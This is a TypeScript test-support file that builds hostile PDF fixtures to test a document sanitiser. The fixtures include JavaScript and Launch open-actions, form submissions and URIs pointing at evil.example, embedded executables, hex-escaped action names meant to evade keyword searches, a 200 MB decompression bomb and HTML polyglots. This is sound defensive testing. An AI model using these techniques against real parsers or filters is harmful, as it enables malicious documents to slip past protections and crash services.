import { deflateSync } from 'node:zlib';
import { pdfOfCompressedCatalog } from '@kantor/server/test/support/pdfs.ts';

// Documents that act when a reader opens them, each way plainly, under an escaped name and within a compressed stream.

/** What rides in a file: nothing that is handed on may have it. */
export const PAYLOAD = 'STORM-PAYLOAD';

export interface HostileFile {
  what: string;
  name: string;
  type: string;
  bytes: Uint8Array;
}

/** Writes a document out of its objects; the first is the catalogue. */
export function writePdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  objects.forEach((object, index) => {
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    offsets.push(length);
    length += part.length;
    parts.push(part);
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>';

/** What may stand in a catalogue and acts. */
const ACTIONS: Readonly<Record<string, string>> = {
  JavaScript: `/OpenAction << /S /JavaScript /JS (app.alert\\("${PAYLOAD}"\\)) >>`,
  Launch: `/OpenAction << /S /Launch /F (${PAYLOAD}.exe) >>`,
  AdditionalActions: `/AA << /WC << /S /JavaScript /JS (${PAYLOAD}) >> >>`,
  SubmitForm: `/OpenAction << /S /SubmitForm /F (https://evil.example/${PAYLOAD}) >>`,
  ImportData: `/OpenAction << /S /ImportData /F (${PAYLOAD}.fdf) >>`,
  GoToR: `/OpenAction << /S /GoToR /F (\\\\evil\\${PAYLOAD}) /D [0 /Fit] >>`,
  GoToE: `/OpenAction << /S /GoToE /T << /R /C /N (${PAYLOAD}) >> >>`,
  URI: `/OpenAction << /S /URI /URI (https://evil.example/${PAYLOAD}) >>`,
  Rendition: `/OpenAction << /S /Rendition /JS (${PAYLOAD}) /OP 0 >>`,
  Movie: `/OpenAction << /S /Movie /T (${PAYLOAD}) >>`,
  RichMedia: `/Extra << /Type /RichMedia /Assets (${PAYLOAD}) >>`,
  EmbeddedFile: `/Names << /EmbeddedFiles << /Names [(${PAYLOAD}.exe) << /Type /Filespec /EF << /F 4 0 R >> >>] >> >>`,
  XFA: `/AcroForm << /XFA (<xdp>${PAYLOAD}</xdp>) /Fields [] >>`,
  FormAction: `/AcroForm << /Fields [<< /FT /Btn /T (a) /A << /S /JavaScript /JS (${PAYLOAD}) >> >>] >>`,
};

/** Undone, the name is the same: readers undo it, a search for the name does not. */
const escapeNames = (text: string) =>
  text.replaceAll(/\/([A-Z])([A-Za-z]+)/g, (_, first: string, rest: string) => {
    return `/${first}#${rest.charCodeAt(0).toString(16)}${rest.slice(1)}`;
  });

const plain = (action: string) => writePdf([`<< /Type /Catalog /Pages 2 0 R ${action} >>`, PAGES, PAGE, '<< >>']);

const pdf = (what: string, bytes: Uint8Array): HostileFile => ({
  what: `pdf: ${what}`,
  name: 'чек.pdf',
  type: 'application/pdf',
  bytes,
});

function oddOnes(): HostileFile[] {
  const bomb = deflateSync(Buffer.alloc(200_000_000));
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`;
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const packed = Buffer.concat([Buffer.from(head), bomb, Buffer.from('\nendstream')]);
  const html = `<html><script>alert("${PAYLOAD}")</script></html>`;
  return [
    pdf('a stream of 200 MB', writePdf([catalog, PAGES, PAGE, packed])),
    pdf('pages that contain themselves', writePdf([catalog, '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 >>', PAGE])),
    pdf('deep arrays', writePdf([catalog, PAGES, PAGE, '['.repeat(200_000) + ']'.repeat(200_000)])),
    pdf(
      'encrypted',
      writePdf([catalog, PAGES, PAGE, '<< /Filter /Standard /V 2 /R 3 /O () /U () /P -4 >>'], '/Encrypt 4 0 R '),
    ),
    pdf('HTML after its end', Buffer.concat([plain(''), Buffer.from(html)])),
    pdf('HTML before its beginning', Buffer.concat([Buffer.from(html), plain('')])),
    pdf('two documents, the second acts', Buffer.concat([plain(''), plain(ACTIONS['JavaScript'] ?? '')])),
  ];
}

export function hostilePdfs(): HostileFile[] {
  const acting = Object.entries(ACTIONS).flatMap(([what, action]) => [
    pdf(what, plain(action)),
    pdf(`${what}, its name escaped`, plain(escapeNames(action))),
    pdf(`${what}, in a compressed stream`, pdfOfCompressedCatalog(action)),
  ]);
  return [...acting, ...oddOnes()];
}
